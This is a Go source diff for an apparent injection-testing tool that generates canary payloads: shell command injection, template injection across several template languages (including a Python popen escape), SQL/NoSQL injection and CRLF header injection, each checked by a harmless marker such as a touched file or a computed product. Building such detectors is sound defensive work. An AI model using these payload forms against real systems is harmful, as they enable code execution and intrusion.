@@ -15,7 +15,19 @@ type Mark struct {
 	Token string // 12 letters and digits
 	Touch string // a file that does not exist, in a folder writable by anybody
 	A, B  int64  // their product has at least nine digits
+	C     int64  // subtracted from it, where the tool multiplies numbers in any text; else 0
 }
+
+// expression returns what a payload has the tool compute.
+func (m *Mark) expression() string {
+	if m.C == 0 {
+		return fmt.Sprintf("%d*%d", m.A, m.B)
+	}
+	return fmt.Sprintf("%d*%d-%d", m.A, m.B, m.C)
+}
+
+// result returns the value of the expression.
+func (m *Mark) result() int64 { return m.A*m.B - m.C }
 
 // A Place holds the planted things that payloads lead to. An empty field means that there is none where the server runs.
 type Place struct {
@@ -42,9 +54,9 @@ type Payload struct {
 	Expect  []probe.Kind
 	// Leads names the planted content the value leads to: "outside", "sibling", "symlink", "service", "metadata"; or "".
 	Leads string
-	// Control is a value with the same effect by the tool's declared purpose alone: if it works too, the tool does its job. "" for
-	// none. Twin is the control of all payloads.
-	Control string
+	// Whole is a whole statement with the same effect, for a tool that takes statements by design; "" if Value is one. Twin is the
+	// control of all payloads.
+	Whole string
 	// Plant is a file that must exist first; nil for none.
 	Plant *Planted
 	// Escapes says that the value escapes a restriction on code, which is no tool's purpose.
@@ -60,16 +72,20 @@ func (t *Target) Payloads() int { return len(t.variants) }
 // Payload returns a target's n-th payload.
 func (t *Target) Payload(n int, m Mark, p Place, seed string) (Payload, bool) {
 	made, ok := t.variants[n](m, p, seed)
-	if s, isText := made.Value.(string); isText && made.Text == "" {
-		made.Text = s
-	}
+	made.set(made.Value)
 	return made, ok
+}
+
+// set replaces a payload's value.
+func (p *Payload) set(value any) {
+	p.Value = value
+	p.Text, _ = value.(string)
 }
 
 // command returns a payload that makes a shell create a file.
 func command(name, format string) variant {
 	return func(m Mark, _ Place, seed string) (Payload, bool) {
-		return Payload{Variant: name, Value: seed + fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}, Control: "touch " + m.Touch}, true
+		return Payload{Variant: name, Value: seed + fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}, Whole: "touch " + m.Touch}, true
 	}
 }
 
@@ -135,11 +151,11 @@ var codeVariants = []variant{
 
 var templateVariants = []variant{
 	func(m Mark, _ Place, seed string) (Payload, bool) {
-		e := fmt.Sprintf("%d*%d", m.A, m.B)
+		e := m.expression()
 		return Payload{Variant: "five template languages", Value: seed + "{{" + e + "}}${" + e + "}<%= " + e + " %>#{" + e + "}{%=" + e + "%}", Expect: []probe.Kind{probe.Product}}, true
 	},
 	func(m Mark, _ Place, _ string) (Payload, bool) {
-		return Payload{Variant: "double braces alone", Value: fmt.Sprintf("{{%d*%d}}", m.A, m.B), Expect: []probe.Kind{probe.Product}}, true
+		return Payload{Variant: "double braces alone", Value: "{{" + m.expression() + "}}", Expect: []probe.Kind{probe.Product}}, true
 	},
 	func(m Mark, _ Place, _ string) (Payload, bool) {
 		value := fmt.Sprintf("{{cycler.__init__.__globals__.os.popen('touch %s').read()}}<%%= "+jsRun+" %%>", m.Touch, m.Touch)
@@ -149,8 +165,8 @@ var templateVariants = []variant{
 
 func statement(name string, write func(product, seed string) string) variant {
 	return func(m Mark, _ Place, seed string) (Payload, bool) {
-		product := fmt.Sprintf("%d*%d", m.A, m.B)
-		return Payload{Variant: name, Value: write(product, seed), Expect: []probe.Kind{probe.Product}, Control: "SELECT " + product}, true
+		e := m.expression()
+		return Payload{Variant: name, Value: write(e, seed), Expect: []probe.Kind{probe.Product}, Whole: "SELECT " + e}, true
 	}
 }
 
@@ -168,7 +184,7 @@ var sqlVariants = []variant{
 
 var noSQLVariants = []variant{
 	func(m Mark, _ Place, seed string) (Payload, bool) {
-		return Payload{Variant: "code in a condition", Value: fmt.Sprintf("%s'; return %d*%d; //", seed, m.A, m.B), Expect: []probe.Kind{probe.Product}}, true
+		return Payload{Variant: "code in a condition", Value: seed + "'; return " + m.expression() + "; //", Expect: []probe.Kind{probe.Product}, Whole: m.expression()}, true
 	},
 }
 
@@ -192,7 +208,7 @@ var crlfVariants = []variant{
 func line(name, end string) variant {
 	return func(m Mark, _ Place, seed string) (Payload, bool) {
 		field := "X-Gauntlet-" + m.Token + ": 1"
-		return Payload{Variant: name, Value: seed + end + field, Expect: []probe.Kind{probe.Callback}, Leads: "header", Control: field}, true
+		return Payload{Variant: name, Value: seed + end + field, Expect: []probe.Kind{probe.Callback}, Leads: "header", Whole: field}, true
 	}
 }
 
